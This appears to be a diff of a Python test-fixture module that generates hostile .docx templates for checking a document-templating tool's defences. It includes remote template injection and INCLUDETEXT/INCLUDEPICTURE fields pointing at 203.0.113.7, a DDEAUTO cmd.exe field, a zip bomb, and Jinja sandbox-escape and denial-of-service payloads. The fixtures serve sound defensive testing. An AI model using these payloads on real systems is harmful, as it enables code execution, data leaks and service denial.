@@ -1,20 +1,216 @@
-"""Small .docx templates written by code, friendly and hostile."""
+"""Small .docx templates written by code, friendly and hostile: paragraphs, footnotes, document properties,
+several sections, active and external content, and zip bombs."""
 
 from __future__ import annotations
 
+import io
+import zipfile
+from collections.abc import Callable
 from pathlib import Path
 
 from docx import Document
 
+W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+CONTENT_FOOTNOTES = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
 
-def docx_with(path: Path, *paragraphs: str) -> Path:
+
+def docx_with(path: Path, *paragraphs: str, title: str = "", sections: int = 1) -> Path:
     document = Document()
     for text in paragraphs:
         document.add_paragraph(text)
+    for index in range(1, sections):
+        document.add_section()
+        document.add_paragraph(f"第 {index + 1} 节")
+    if title:
+        document.core_properties.title = title
     document.save(path)
     return path
 
 
+def rewrite(
+    path: Path, edits: dict[str, Callable[[str], str]], added: dict[str, bytes] | None = None
+) -> Path:
+    """Change members of a .docx by text, and add members."""
+    with zipfile.ZipFile(path) as archive:
+        members = {info.filename: archive.read(info) for info in archive.infolist()}
+    for member, edit in edits.items():
+        members[member] = edit(members.get(member, b"").decode("utf-8")).encode("utf-8")
+    members.update(added or {})
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for member, blob in members.items():
+            archive.writestr(member, blob)
+    path.write_bytes(buffer.getvalue())
+    return path
+
+
+def _relationship(rid: str, kind: str, target: str, external: bool = False) -> Callable[[str], str]:
+    mode = ' TargetMode="External"' if external else ""
+    element = f'<Relationship Id="{rid}" Type="{REL}{kind}" Target="{target}"{mode}/>'
+    return lambda xml: xml.replace("</Relationships>", element + "</Relationships>")
+
+
+def _override(part: str, content_type: str) -> Callable[[str], str]:
+    element = f'<Override PartName="/{part}" ContentType="{content_type}"/>'
+    return lambda xml: xml.replace("</Types>", element + "</Types>")
+
+
+def _in_body(fragment: str) -> Callable[[str], str]:
+    """Insert XML before the body's final section properties."""
+    return lambda xml: xml.replace("<w:sectPr", fragment + "<w:sectPr", 1) if "<w:sectPr" in xml else xml
+
+
+def _chain(*edits: Callable[[str], str]) -> Callable[[str], str]:
+    def run(xml: str) -> str:
+        for edit in edits:
+            xml = edit(xml)
+        return xml
+
+    return run
+
+
+def with_footnote(path: Path, text: str) -> Path:
+    """A footnote (its text may hold template tags) referenced from the first paragraph."""
+    notes = (
+        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:footnotes xmlns:w="{W_NS}">'
+        '<w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p></w:footnote>'
+        '<w:footnote w:type="continuationSeparator" w:id="0"><w:p><w:r><w:continuationSeparator/></w:r></w:p>'
+        f'</w:footnote><w:footnote w:id="1"><w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'
+        "</w:footnote></w:footnotes>"
+    )
+    reference = '<w:r><w:footnoteReference w:id="1"/></w:r></w:p>'
+    return rewrite(
+        path,
+        {
+            "word/document.xml": lambda xml: xml.replace("</w:p>", reference, 1),
+            "word/_rels/document.xml.rels": _relationship("rIdFN", "footnotes", "footnotes.xml"),
+            "[Content_Types].xml": _override("word/footnotes.xml", CONTENT_FOOTNOTES),
+        },
+        {"word/footnotes.xml": notes.encode("utf-8")},
+    )
+
+
+# ---------------------------------------------------------------- active and external content
+
+ACTIVE_KINDS = (
+    "attachedTemplate",
+    "altChunk",
+    "ole",
+    "ddeauto",
+    "includetext",
+    "includepicture",
+    "file_link",
+)
+
+
+def with_active_content(path: Path, kinds: tuple[str, ...] = ACTIVE_KINDS) -> Path:
+    """Each kind of content that makes Word fetch or run something when the document is opened."""
+    body: list[str] = []
+    document_rels: list[Callable[[str], str]] = []
+    types: list[Callable[[str], str]] = []
+    edits: dict[str, Callable[[str], str]] = {}
+    added: dict[str, bytes] = {}
+    if "attachedTemplate" in kinds:
+        edits["word/settings.xml"] = lambda xml: xml.replace(
+            "<w:zoom", f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdAT"/><w:zoom', 1
+        )
+        added["word/_rels/settings.xml.rels"] = (
+            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            f'<Relationship Id="rIdAT" Type="{REL}attachedTemplate" Target="http://203.0.113.7/模板.dotm"'
+            ' TargetMode="External"/></Relationships>'
+        ).encode()
+    if "altChunk" in kinds:
+        body.append(f'<w:altChunk xmlns:r="{R_NS}" r:id="rIdAC"/>')
+        document_rels.append(_relationship("rIdAC", "aFChunk", "afchunk.mht"))
+        types.append(_override("word/afchunk.mht", "message/rfc822"))
+        added["word/afchunk.mht"] = b"MIME-Version: 1.0\r\n\r\n<html>chunk</html>"
+    if "ole" in kinds:
+        body.append(
+            '<w:p><w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office">'
+            f'<o:OLEObject xmlns:r="{R_NS}" Type="Embed" ProgID="Package" r:id="rIdOLE"/></w:object></w:r></w:p>'
+        )
+        document_rels.append(_relationship("rIdOLE", "oleObject", "embeddings/oleObject1.bin"))
+        types.append(
+            _override(
+                "word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject"
+            )
+        )
+        added["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 package"
+    if "ddeauto" in kinds:
+        body.append(_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ', "DDE结果"))
+    if "includetext" in kinds:
+        body.append(
+            '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\203.0.113.7\\\\share\\\\a.docx&quot; ">'
+            "<w:r><w:t>包含的文字</w:t></w:r></w:fldSimple></w:p>"
+        )
+    if "includepicture" in kinds:
+        body.append(_field(' INCLUDEPICTURE "http://203.0.113.7/p.png" \\d ', "图片"))
+    if "file_link" in kinds:
+        body.append(
+            f'<w:p><w:hyperlink xmlns:r="{R_NS}" r:id="rIdFL"><w:r><w:t>共享盘链接</w:t></w:r></w:hyperlink></w:p>'
+        )
+        document_rels.append(
+            _relationship("rIdFL", "hyperlink", "file://203.0.113.7/share/x.docx", external=True)
+        )
+    edits["word/document.xml"] = _in_body("".join(body))
+    if document_rels:
+        edits["word/_rels/document.xml.rels"] = _chain(*document_rels)
+    if types:
+        edits["[Content_Types].xml"] = _chain(*types)
+    return rewrite(path, edits, added)
+
+
+def _field(instruction: str, shown: str) -> str:
+    return (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        f'<w:r><w:t>{shown}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+ACTIVE_MARKERS = (
+    "attachedTemplate",
+    "altChunk",
+    "OLEObject",
+    "DDEAUTO",
+    "INCLUDETEXT",
+    "INCLUDEPICTURE",
+    "file://",
+)
+
+
+def zip_bomb(path: Path, megabytes: int = 100) -> Path:
+    """A template with a part that unpacks to `megabytes` of zeros from about a thousandth of that."""
+    docx_with(path, "{{ 单位.名称 }}")
+    chunk = bytes(1024 * 1024)
+    with (
+        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive,
+        archive.open("word/media/image1.png", "w", force_zip64=True) as member,
+    ):
+        for _ in range(megabytes):
+            member.write(chunk)
+    return path
+
+
+# ---------------------------------------------------------------- hostile template text
+
+
+def nested(opening: str, closing: str, depth: int, inner: str = "x") -> str:
+    return opening * depth + inner + closing * depth
+
+
+def _doubling_callers(depth: int) -> str:
+    body = "x"
+    for _ in range(depth):
+        body = "{% call m() %}" + body + "{% endcall %}"
+    return "{% macro m() %}{{ caller() }}{{ caller() }}{% endmacro %}" + body
+
+
+# Refused by `templates check` and `add`, before anything runs.
 HOSTILE: dict[str, str] = {
     "class_escape": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
     "globals": "{{ 单位.get.__globals__ }}",
@@ -27,6 +223,45 @@ HOSTILE: dict[str, str] = {
     "huge_range": "{% for i in range(100000000) %}{{ i }}{% endfor %}",
     "huge_power": "{{ 9 ** 9999999 }}",
     "recursion": "{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}",
+    "mutual_recursion": "{% macro a() %}{{ b() }}{% endmacro %}{% macro b() %}{{ a() }}{% endmacro %}{{ a() }}",
     "self_reference": "{{ self }}",
     "cycler": "{{ cycler.__init__ }}",
+    "center_folded": "{{ 'x'|center(3000000000) }}",
+    "autoescape_off": "{% autoescape false %}{{ 单位.名称 }}{% endautoescape %}",
+    "safe_filter": "{{ 单位.名称|safe }}",
+    "nested_for_25": nested("{% for i in [1] %}", "{% endfor %}", 25),
+    "nested_if_500": nested("{% if true %}", "{% endif %}", 500),
+    "digits_5000": "{{ " + "9" * 5000 + " }}",
+    "batch_constant": "{{ [1]|batch(999999999, 'x')|list }}",
+}
+
+# Pass the checks (nothing in them is wrong to look at) and are stopped while rendering, with a Chinese
+# message naming the template and the unit. Each with the words the message must contain.
+STOPPED: dict[str, tuple[str, str]] = {
+    "silent_loops": (
+        nested("{% for i in range(10000) %}", "{% endfor %}", 3, ""),
+        "秒仍未完成",
+    ),
+    "recursive_for": ("{% for i in [1, 2] recursive %}{{ loop([1, 2]) }}{% endfor %}", "嵌套或递归过深"),
+    "exponential_for": (
+        "{% for i in [1, 2] recursive %}{% if loop.depth < 60 %}{{ loop([1, 2]) }}{% endif %}{% endfor %}",
+        "秒仍未完成",
+    ),
+    "caller_doubling": (_doubling_callers(30), "秒仍未完成"),
+    "list_sum": ("{{ (([0] * 100000) * 1000)|sum }}", "过长"),
+    "tower_power": ("{{ ((3 ** 1000) ** 1000) ** 1000 }}", "乘方得到的数过大"),
+    "replace": ("{{ ('x' * 100000)|replace('x', 'y' * 10000) }}", "替换后的内容过长"),
+    "indent": ("{{ ('x\\n' * 100000)|indent(100000) }}", "缩进后的内容过长"),
+    "ljust": ("{% set n = 30000 * 100000 %}{{ 'x'.ljust(n) }}", "补齐后的内容过长"),
+    "format_width": ("{{ '{:>999999999}'.format(1) }}", "格式化的内容过长"),
+    "percent_width": ("{{ '%999999999d' % 1 }}", "格式化的内容过长"),
+    "join": ("{{ (['x' * 100000] * 10)|join('y' * 100000) }}", "过长"),
+    "batch": ("{% set n = 30000 * 100000 %}{{ [1]|batch(n, 'x')|list }}", "分组过长"),
+    "extend_doubling": (
+        "{% set a = ['x' * 1000] %}{% for i in range(40) %}{{ a.extend(a) }}{% endfor %}",
+        "列表过长",
+    ),
+    "division_by_zero": ("{{ 1 / 0 }}", "除数为零"),
+    "circular_tojson": ("{% set a = [1] %}{{ a.append(a) }}{{ a|tojson }}", "过长"),
+    "ordinal_of_empty": ("{{ 单位.简称|序号 }}", "不是数字的内容当作数字"),
 }
